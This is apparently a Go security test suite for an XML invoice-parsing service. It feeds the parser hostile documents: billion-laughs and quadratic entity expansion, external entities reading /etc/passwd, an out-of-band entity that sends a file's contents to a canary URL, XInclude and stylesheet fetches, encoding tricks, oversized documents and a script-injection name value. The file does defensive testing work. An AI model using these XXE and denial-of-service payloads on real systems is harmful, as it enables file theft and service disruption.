package tools_test

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"unicode/utf16"

	"khatm/sample"
	"khatm/service/internal/servicetest"
)

func TestX1_HostileXML(t *testing.T) {
	if withoutNetwork(t) {
		return
	}
	bird := newCanary(t)
	sealed := servicetest.SealedOf(t, sample.Simplified())
	files := slices.Concat(entities(bird), encodings(sealed), bulk(sealed), markup(sealed), values(sealed))
	withstand(t, 60, 450, bird, files)
}

// A document type is refused at any position.
func TestX1_DocumentTypesAreRefused(t *testing.T) {
	h := openTools(t)
	for _, f := range entities(newCanary(t)) {
		if !strings.Contains(strings.ToUpper(f.data()), "<!DOCTYPE") {
			continue
		}
		for _, content := range []string{f.data(), servicetest.PDFWith("Alternative:" + f.data())} {
			if got := h.Parse(content); got.Status != 400 || !strings.Contains(got.Body, "not accepted") && !strings.Contains(got.Body, "not UTF-8") {
				t.Errorf("%s: status %d, body %.200s; want 400", f.name, got.Status, got.Body)
			}
		}
	}
}

const parseRoot = `<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2" xmlns:cac="urn:oasis:names:specification:ubl:schema:xsd:CommonAggregateComponents-2" xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2" xmlns:ext="urn:oasis:names:specification:ubl:schema:xsd:CommonExtensionComponents-2">`

// inInvoice returns an invoice with content in its root.
func inInvoice(content string) string { return parseRoot + content + "</Invoice>" }

// withEntities returns an invoice with a document type and a note that uses one of
// its entities.
func withEntities(subset, note string) func() string {
	return fixed("<!DOCTYPE Invoice " + subset + ">" + inInvoice("<cbc:Note>"+note+"</cbc:Note>"))
}

// entities returns XML with entities that refer to external resources or expand to
// large texts.
func entities(bird *canary) []hostile {
	laughs := func(quote string) string {
		var b strings.Builder
		b.WriteString(`[<!ENTITY l0 "ha">`)
		for i := range 9 {
			fmt.Fprintf(&b, `<!ENTITY l%d "%s">`, i+1, strings.Repeat(fmt.Sprintf(quote, i), 10))
		}
		return b.String() + "]"
	}
	return []hostile{
		{"billion laughs", withEntities(laughs("&l%d;"), "&l9;")},
		{"billion laughs by parameter", withEntities(strings.ReplaceAll(laughs("&#37;l%d;"), "<!ENTITY ", "<!ENTITY % "), "x")},
		{"quadratic blow-up", withEntities(`[<!ENTITY a "`+strings.Repeat("a", 100_000)+`">]`, strings.Repeat("&a;", 50_000))},
		{"entity that contains itself", withEntities(`[<!ENTITY a "&a;">]`, "&a;")},
		{"external file", withEntities(`[<!ENTITY a SYSTEM "file://`+bird.file+`">]`, "&a;")},
		{"external password file", withEntities(`[<!ENTITY a SYSTEM "file:///etc/passwd">]`, "&a;")},
		{"external endless file", withEntities(`[<!ENTITY a SYSTEM "file:///dev/zero">]`, "&a;")},
		{"external address", withEntities(`[<!ENTITY a SYSTEM "`+bird.url+`/a">]`, "&a;")},
		{"external parameter", withEntities(`[<!ENTITY % a SYSTEM "`+bird.url+`/a"> %a;]`, "x")},
		{"external parameter that sends data", withEntities(`[<!ENTITY % f SYSTEM "file://`+bird.file+`"><!ENTITY % a "<!ENTITY &#37; b SYSTEM '`+bird.url+`/?%f;'>">%a;%b;]`, "x")},
		{"external subset", withEntities(`SYSTEM "`+bird.url+`/a.dtd"`, "x")},
		{"external subset, public", withEntities(`PUBLIC "-//X//Y" "`+bird.url+`/a.dtd"`, "x")},
		{"external, PHP filter", withEntities(`[<!ENTITY a SYSTEM "php://filter/convert.base64-encode/resource=`+bird.file+`">]`, "&a;")},
		{"external, jar", withEntities(`[<!ENTITY a SYSTEM "jar:`+bird.url+`/a!/b">]`, "&a;")},
		{"external, net document", withEntities(`[<!ENTITY a SYSTEM "netdoc://`+bird.file+`">]`, "&a;")},
		{"unparsed", withEntities(`[<!NOTATION n SYSTEM "`+bird.url+`"><!ENTITY a SYSTEM "`+bird.url+`" NDATA n>]`, "x")},
		{"attribute by default", withEntities(`[<!ATTLIST cbc:Note languageID CDATA "ar">]`, "x")},
		{"document type in small letters", fixed("<!doctype Invoice>" + inInvoice(""))},
		{"document type after a comment", fixed("<!-- a --><!DOCTYPE Invoice>" + inInvoice(""))},
		{"document type in the root", fixed(inInvoice("<!DOCTYPE Invoice>"))},
		{"document type after the root", fixed(inInvoice("") + "<!DOCTYPE Invoice>")},
		{"entity in the root", fixed(inInvoice(`<!ENTITY a "b">`))},
		{"XInclude of a file", fixed(inInvoice(`<cbc:Note><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://` + bird.file + `" parse="text"/></cbc:Note>`))},
		{"XInclude of an address", fixed(inInvoice(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="` + bird.url + `"/>`))},
		{"style sheet", fixed(`<?xml-stylesheet type="text/xsl" href="` + bird.url + `/a.xsl"?>` + inInvoice(""))},
		{"external schema", fixed(strings.Replace(inInvoice(""), "<Invoice ", `<Invoice xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x `+bird.url+`" `, 1))},
		{"external base", fixed(inInvoice(`<cbc:Note xml:base="` + bird.url + `">x</cbc:Note>`))},
	}
}

func utf16Of(text string, highFirst bool) string {
	var out []byte
	for _, u := range utf16.Encode([]rune(text)) {
		if highFirst {
			out = append(out, byte(u>>8), byte(u))
		} else {
			out = append(out, byte(u), byte(u>>8))
		}
	}
	return string(out)
}

// encodings returns XML whose encoding is declared wrongly or is not UTF-8.
func encodings(sealed string) []hostile {
	says := func(encoding string) func() string {
		return fixed(`<?xml version="1.0" encoding="` + encoding + `"?>` + rootOf(sealed))
	}
	return []hostile{
		{"UTF-16 with a byte order mark", fixed(utf16Of("\uFEFF"+sealed, true))},
		{"UTF-16, little endian", fixed(utf16Of("\uFEFF"+sealed, false))},
		{"UTF-16 without a byte order mark", fixed(utf16Of(sealed, true))},
		{"UTF-16 of a document type", fixed(utf16Of("\uFEFF<!DOCTYPE a><a/>", false))},
		{"UTF-32", fixed("\x00\x00\x00<\x00\x00\x00a\x00\x00\x00/\x00\x00\x00>")},
		{"declared as UTF-7", says("UTF-7")},
		{"UTF-7", fixed("+ADw-a+AD4-+ADw-/a+AD4-")},
		{"declared as EBCDIC", says("IBM037")},
		{"EBCDIC", fixed("\x4c\x6f\xa7\x94\x93\x40\xa5\x85\x99\xa2\x89\x96\x95\x7e\x7f\xf1\x4b\xf0\x7f\x6f\x6e")},
		{"declared as Latin-1", says("ISO-8859-1")},
		{"declared as UTF-16", says("UTF-16")},
		{"NUL", fixed(strings.Replace(sealed, "<cbc:ID>", "<cbc:ID>\x00", 1))},
		{"NUL at the beginning", fixed("\x00" + sealed)},
		{"overlong", fixed(strings.Replace(sealed, "<cbc:ID>", "<cbc:ID>\xC0\xBCx", 1))},
		{"half of a surrogate pair", fixed(strings.Replace(sealed, "<cbc:ID>", "<cbc:ID>\xED\xA0\x80", 1))},
		{"reference to NUL", fixed(strings.Replace(sealed, "<cbc:ID>", "<cbc:ID>&#0;", 1))},
		{"reference to half of a surrogate pair", fixed(strings.Replace(sealed, "<cbc:ID>", "<cbc:ID>&#xD800;", 1))},
		{"reference out of range", fixed(strings.Replace(sealed, "<cbc:ID>", "<cbc:ID>&#99999999999999999999;", 1))},
		{"two byte order marks", fixed("\uFEFF\uFEFF" + sealed)},
		{"XML 1.1", fixed(strings.Replace(sealed, `version="1.0"`, `version="1.1"`, 1))},
	}
}

// bulk returns documents with a very large number of elements, attributes or
// characters.
func bulk(sealed string) []hostile {
	const room = parseCap - 4096
	fill := func(before, again, after string) func() string {
		return func() string {
			return inInvoice(before + strings.Repeat(again, (room-len(before)-len(after))/len(again)) + after)
		}
	}
	times := func(n int, again string) func() string {
		return func() string { return inInvoice(strings.Repeat(again, n)) }
	}
	return []hostile{
		{"700,000 nested elements", func() string { return strings.Repeat("<a>", 700_000) + strings.Repeat("</a>", 700_000) }},
		{"700,000 elements without end tags", func() string { return strings.Repeat("<a>", 700_000) }},
		{"65 nested elements", func() string { return inInvoice(strings.Repeat("<a>", 65) + strings.Repeat("</a>", 65)) }},
		{"sixty deep, repeated", times(800, strings.Repeat("<a>", 60)+strings.Repeat("</a>", 60))},
		{"300,000 attributes", func() string {
			var b strings.Builder
			b.WriteString("<Invoice")
			for i := range 300_000 {
				fmt.Fprintf(&b, " a%d=''", i)
			}
			return b.String() + "/>"
		}},
		{"an attribute of 5 MB", func() string { return inInvoice(`<a b="` + strings.Repeat("x", room-100) + `"/>`) }},
		{"a name of 5 MB", func() string { return inInvoice("<" + strings.Repeat("x", room) + "/>") }},
		{"a text of 5 MB", fill("<cbc:ID>", "x", "</cbc:ID>")},
		{"a note of references", fill("<cbc:Note>", "&#65;", "</cbc:Note>")},
		{"a note of ampersands", fill("<cbc:Note>", "&amp;", "</cbc:Note>")},
		{"empty elements", fill("", "<a/>", "")},
		{"maximum number of empty elements", times(99_990, "<cbc:Note>x</cbc:Note>")},
		{"maximum number of lines", times(99_990, "<cac:InvoiceLine/>")},
		{"maximum number of discounts", times(99_990, "<cac:AllowanceCharge/>")},
		{"maximum number of references", times(99_990, "<cac:AdditionalDocumentReference/>")},
		{"maximum number of subtotals", func() string {
			return inInvoice("<cac:TaxTotal>" + strings.Repeat("<cac:TaxSubtotal/>", 99_980) + "</cac:TaxTotal>")
		}},
		{"maximum number of attributes", times(33_330, `<cbc:Note a="" b="" />`)},
		{"maximum number of namespaces", times(49_990, `<a xmlns="urn:x"/>`)},
		{"repeated prefixes", times(20_000, `<x:a xmlns:x="urn:x" xmlns:y="urn:y" x:b="" y:b=""/>`)},
		{"4,000 empty lines", times(4_000, "<cac:InvoiceLine/>")},
		{"signatures", times(30_000, "<cac:Signature/>")},
		{"extensions", times(30_000, "<ext:UBLExtensions/>")},
		{"codes", times(5_000, "<cac:AdditionalDocumentReference><cbc:ID>QR</cbc:ID></cac:AdditionalDocumentReference>")},
		{"the same id on all", times(30_000, `<a Id="x"/>`)},
		{"white space", func() string { return strings.Repeat(" ", room) + sealed }},
		{"line ends in the document", func() string {
			return strings.Replace(sealed, "<cbc:ID>", strings.Repeat("\r\n", room/2-len(sealed))+"<cbc:ID>", 1)
		}},
	}
}

// markup returns unusual XML.
func markup(sealed string) []hostile {
	const room = parseCap - 4096
	id := func(s string) func() string {
		return fixed(strings.Replace(sealed, "<cbc:ID>", "<cbc:ID>"+s, 1))
	}
	before := func(s string) func() string {
		return func() string { return strings.Replace(sealed, "<cbc:ProfileID>", s+"<cbc:ProfileID>", 1) }
	}
	return []hostile{
		{"a flood of instructions", before(strings.Repeat("<?a?>", 90_000))},
		{"a flood of comments", before(strings.Repeat("<!---->", 90_000))},
		{"a flood of comments of 5 MB", func() string { return inInvoice(strings.Repeat("<!---->", room/7)) }},
		{"999 comments", before(strings.Repeat("<!---->", 999))},
		{"a comment of 5 MB", func() string { return inInvoice("<!--" + strings.Repeat("x", room) + "-->") }},
		{"a flood of CDATA", func() string {
			return inInvoice("<cbc:ID>" + strings.Repeat("<![CDATA[]]>", 90_000) + "</cbc:ID>")
		}},
		{"CDATA that is split", id("<![CDATA[]]]]><![CDATA[>]]>")},
		{"CDATA that hides a tag", id("<![CDATA[</cbc:ID><cbc:ID>]]>")},
		{"CDATA without end", fixed(inInvoice("<cbc:ID><![CDATA["))},
		{"attribute twice", fixed(inInvoice(`<cbc:ID a="1" a="2"/>`))},
		{"attribute twice by prefixes", fixed(inInvoice(`<cbc:ID xmlns:p="urn:x" xmlns:q="urn:x" p:a="1" q:a="2"/>`))},
		{"prefix redefined", fixed(inInvoice(`<cbc:ID xmlns:cbc="urn:x">1</cbc:ID>`))},
		{"default namespace redefined", fixed(inInvoice(`<ID xmlns="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2">1</ID>`))},
		{"prefix unbound", fixed(inInvoice(`<cbc:ID xmlns:cac="">1</cbc:ID>`))},
		{"xml bound", fixed(inInvoice(`<cbc:ID xmlns:xml="urn:x">1</cbc:ID>`))},
		{"colons", fixed(inInvoice("<:a::b:/>"))},
		{"no end", fixed(sealed[:len(sealed)-3])},
		{"first half only", fixed(sealed[:len(sealed)/2])},
		{"two roots", fixed(sealed + rootOf(sealed))},
		{"text after the root", fixed(sealed + "x")},
		{"nothing but <", fixed("<")},
		{"a flood of <", func() string { return strings.Repeat("<", room) }},
		{"a flood of >", func() string { return "<a>" + strings.Repeat(">", room) }},
		{"a flood of &", func() string { return "<a>" + strings.Repeat("&", room) }},
		{"a flood of quotes", func() string { return "<a " + strings.Repeat(`"`, room) }},
	}
}

// values returns valid XML with harmful values.
func values(sealed string) []hostile {
	amount := func(s string) func() string {
		head, rest, _ := strings.Cut(sealed, "<cbc:PriceAmount currencyID=\"SAR\">")
		_, tail, _ := strings.Cut(rest, "<")
		return fixed(head + "<cbc:PriceAmount currencyID=\"SAR\">" + s + "<" + tail)
	}
	return []hostile{
		{"a price of a million digits", amount(strings.Repeat("9", 1_000_000))},
		{"a price with an exponent", amount("1e999999999")},
		{"a price that is not a number", amount("NaN")},
		{"an empty price", amount("")},
		{"a price below zero", amount("-1")},
		{"a code of 5 MB", func() string { return replaceCode(sealed, strings.Repeat("AQFB", 1_000_000)) }},
		{"a code with wrong lengths", fixed(replaceCode(sealed, "Af8="))},
		{"a code of a hundred thousand tags", fixed(replaceCode(sealed, strings.Repeat("/wD/", 10_000)))},
		{"reasons that cannot be assigned", reasonsWithoutEnd},
		{"subtotals beside lines", func() string { return manyTaxes(800, 800, 0) }},
		{"as many subtotals beside lines", func() string { return manyTaxes(3_900, 3_900, 0) }},
		{"subtotals beside advances", func() string { return manyTaxes(3_900, 1, 5) }},
		{"script in a name", fixed(strings.Replace(sealed, "<cbc:Name>", "<cbc:Name>&lt;script&gt;alert(1)&lt;/script&gt;\u202E", 1))},
	}
}

// reasonsWithoutEnd returns lines that match either of two reasons, so that there
// are very many combinations, none of which gives the right totals.
func reasonsWithoutEnd() string {
	subtotal := func(amount, code string) string {
		return `<cac:TaxSubtotal><cbc:TaxableAmount currencyID="SAR">` + amount + `</cbc:TaxableAmount><cbc:TaxAmount currencyID="SAR">0</cbc:TaxAmount>` +
			`<cac:TaxCategory><cbc:ID>Z</cbc:ID><cbc:Percent>0</cbc:Percent><cbc:TaxExemptionReasonCode>` + code + `</cbc:TaxExemptionReasonCode>` +
			`<cac:TaxScheme><cbc:ID>VAT</cbc:ID></cac:TaxScheme></cac:TaxCategory></cac:TaxSubtotal>`
	}
	out := `<cbc:DocumentCurrencyCode>SAR</cbc:DocumentCurrencyCode><cac:TaxTotal><cbc:TaxAmount currencyID="SAR">0</cbc:TaxAmount>` +
		subtotal("1000.01", "VATEX-SA-32") + subtotal("1000.01", "VATEX-SA-33") + subtotal("1000.01", "VATEX-SA-35") + `</cac:TaxTotal>`
	for i := range 2000 {
		out += fmt.Sprintf(`<cac:InvoiceLine><cbc:ID>%d</cbc:ID><cbc:InvoicedQuantity unitCode="PCE">1</cbc:InvoicedQuantity>`+
			`<cac:Item><cbc:Name>x</cbc:Name><cac:ClassifiedTaxCategory><cbc:ID>Z</cbc:ID><cbc:Percent>0</cbc:Percent></cac:ClassifiedTaxCategory></cac:Item>`+
			`<cac:Price><cbc:PriceAmount currencyID="SAR">1</cbc:PriceAmount></cac:Price></cac:InvoiceLine>`, i+1)
	}
	return inInvoice(out)
}

// manyTaxes returns lines and advances, each advance with as many subtotals as the
// document, none of which match.
func manyTaxes(subtotals, lines, advances int) string {
	taxed := func(name string, n int) string {
		return fmt.Sprintf(`<cac:%s><cbc:ID>Z%d</cbc:ID><cbc:Percent>0</cbc:Percent></cac:%s>`, name, n, name)
	}
	var out, own, theirs strings.Builder
	for i := range subtotals {
		own.WriteString("<cac:TaxSubtotal>" + taxed("TaxCategory", i) + "</cac:TaxSubtotal>")
		theirs.WriteString("<cac:TaxSubtotal>" + taxed("TaxCategory", -i) + "</cac:TaxSubtotal>")
	}
	out.WriteString("<cac:TaxTotal>" + own.String() + "</cac:TaxTotal>")
	for i := range lines {
		out.WriteString("<cac:InvoiceLine><cac:Item>" + taxed("ClassifiedTaxCategory", subtotals+i) + "</cac:Item></cac:InvoiceLine>")
	}
	for range advances {
		out.WriteString("<cac:InvoiceLine><cac:DocumentReference><cbc:DocumentTypeCode>386</cbc:DocumentTypeCode></cac:DocumentReference><cac:TaxTotal>" + theirs.String() + "</cac:TaxTotal></cac:InvoiceLine>")
	}
	return inInvoice(out.String())
}
